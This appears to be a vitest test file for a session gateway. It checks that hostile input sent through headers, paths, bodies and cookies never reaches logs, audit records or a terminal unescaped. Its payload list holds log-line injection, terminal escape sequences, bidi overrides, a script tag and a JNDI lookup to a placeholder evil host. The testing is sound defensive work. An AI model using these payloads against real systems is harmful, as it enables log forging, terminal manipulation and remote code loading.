import { readFile } from 'node:fs/promises'
import { afterAll, describe, expect, it } from 'vitest'
import { keyOf, openTestGateway, type TestGateway } from '../fixtures/test-gateway.ts'
import { run } from '../fixtures/test-terminal.ts'
import { serveGateway } from '../serve.ts'
import { createTemporaryFolder } from '../stores/fixtures/temporary-folder.ts'

// Everything that somebody can send, and everything that becomes of it in the log, the audit and a terminal.

const folder = createTemporaryFolder()
afterAll(folder.remove)

const mark = 'hOsTiLe'

const hostile: readonly (readonly [what: string, text: string])[] = [
  ['a line of its own', `${mark}\r\n{"level":50,"msg":"${mark}"}`],
  ['a line break alone', `${mark}\n${mark}`],
  ['commands for a terminal', `\u001b[2J\u001b]0;${mark}\u0007\u009b31m`],
  ['a null character', `${mark}\u0000${mark}`],
  ['signs that turn a line round', `\u202e${mark}\u2066`],
  ['other line separators', `${mark}\u2028\u2029\u0085${mark}`],
  ['half a character', `\ud800${mark}`],
  ['markup', `<script>${mark}</script>`],
  ['a lookup', `\${jndi:ldap://evil.example/${mark}}`],
  ['much', mark.repeat(500)],
]

/** Shows a text wherever a request has room for one. */
async function showEverywhere({ call, signIn, read }: TestGateway, text: string): Promise<void> {
  const token = await signIn()
  const etag = (await read(token)).headers.get('etag') ?? ''
  const inHeader = [...text].filter((sign) => sign >= ' ' && sign <= '\xff' && sign !== '\x7f').join('')
  const inPath = encodeURIComponent(text.toWellFormed())
  const good = { Authorization: `Bearer ${keyOf('portal')}`, 'Session-Token': token, 'If-Match': etag }
  for (const name of [
    ...Object.keys(good),
    'Contract-Revision',
    'Idempotency-Key',
    'Cookie',
    'User-Agent',
    'Traceparent',
    'Origin',
    'X-Forwarded-For',
  ]) {
    const body = { reason: 'tenant.switch', set: { 'context.theme': text } }
    await call('PATCH', '/v1/session', { body, headers: { ...good, [name]: inHeader } })
  }
  for (const body of [{ reason: text, set: {} }, { reason: 'x', set: { [text]: 1 } }, { [text]: text }, text])
    await call('PATCH', '/v1/session', { body, headers: good })
  for (const path of [
    `/${inPath}`,
    `/v1/session?${inPath}=${inPath}`,
    `/v1/sessions/${inPath}`,
    `/v1/subjects/${inPath}/${inPath}/sessions`,
  ])
    await call('GET', path, { as: 'admin', token })
  await call('DELETE', `/v1/subjects/${inPath}/${inPath}/sessions`, { as: 'admin', body: { reason: text } })
  for (const path of ['/login?return_to=', '/callback?code=a&state=', '/logout?return_to=', '/login?acr_values='])
    await call('GET', path + inPath, { headers: { Cookie: `__Host-login-AAAAAAAA=${inHeader}`, Accept: 'text/html' } })
  const form = { 'Content-Type': 'application/x-www-form-urlencoded' }
  await call('POST', '/backchannel-logout', { body: `logout_token=${inPath}`, headers: form })
}

/** Line breaks at the ends of lines alone, and no other control character. */
function isPlain(line: string): boolean {
  return [...line.slice(0, -1)].every((sign) => sign >= ' ' && !(sign >= '\x7f' && sign <= '\x9f')) && line.endsWith('\n')
}

describe('the log', () => {
  it.each(hostile)('holds nothing of what was sent: %s', async (_what, text) => {
    const gateway = await openTestGateway({ log: { level: 'debug' } })
    await showEverywhere(gateway, text)
    const lines = gateway.takeLines()
    expect(lines.length).toBeGreaterThan(20)
    expect(lines.filter((line) => !isPlain(line) || line.includes(mark))).toEqual([])
    expect((await gateway.audit()).filter((record) => JSON.stringify(record).includes(mark))).toEqual([])
  })

  it('is one line of JSON for each thing that happens, in UTC', async () => {
    const gateway = await openTestGateway({ log: { level: 'debug' } })
    await showEverywhere(gateway, mark)
    const instant = expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
    for (const line of gateway.takeLines())
      expect(JSON.parse(line)).toMatchObject({ time: instant, level: expect.any(Number), msg: expect.any(String) })
    for (const record of await gateway.audit()) expect(record.at).toEqual(instant)
  })
})

describe('a person whose name is hostile', () => {
  // A provider may call its people what it likes.
  const names = hostile.filter(([what]) => what !== 'much').map(([what, text]) => [what, text.toWellFormed()] as const)

  it.each(names)('is one line in the file of the audit, and in a terminal: %s', async (_what, name) => {
    const path = folder.newPath()
    const gateway = await openTestGateway({ audit: { sink: `file:${path}` } })
    const served = await serveGateway(gateway.gateway, { port: 0, hostname: '127.0.0.1' })
    const token = await gateway.signIn(name)
    const { id } = (await gateway.read(token)).body.document
    const env = { SINGLE_STATE_GATEWAY: `http://127.0.0.1:${served.port}`, SINGLE_STATE_OPERATOR_KEY: keyOf('admin') }
    const shown = [await run(['audit', 'tail'], { env }), await run(['inspect', '--', id], { env })]
    await served.close()
    const { out } = shown[0] as (typeof shown)[number]
    expect(out.split('\n')).toHaveLength(1)
    for (const { out: text, code } of shown) {
      expect(code).toBe(0)
      expect([...text].filter((sign) => sign !== '\n' && /\p{Cc}|\p{Bidi_Control}/u.test(sign))).toEqual([])
      expect(text.split('\n').filter((line) => line.startsWith(mark) || line.startsWith('{"level"'))).toEqual([])
    }
    const lines = (await readFile(path, 'utf8')).trimEnd().split('\n')
    expect(lines.map((line) => JSON.parse(line).subject)).toEqual([expect.stringContaining(name)])
    expect(gateway.logText()).not.toContain(mark)
  })
})
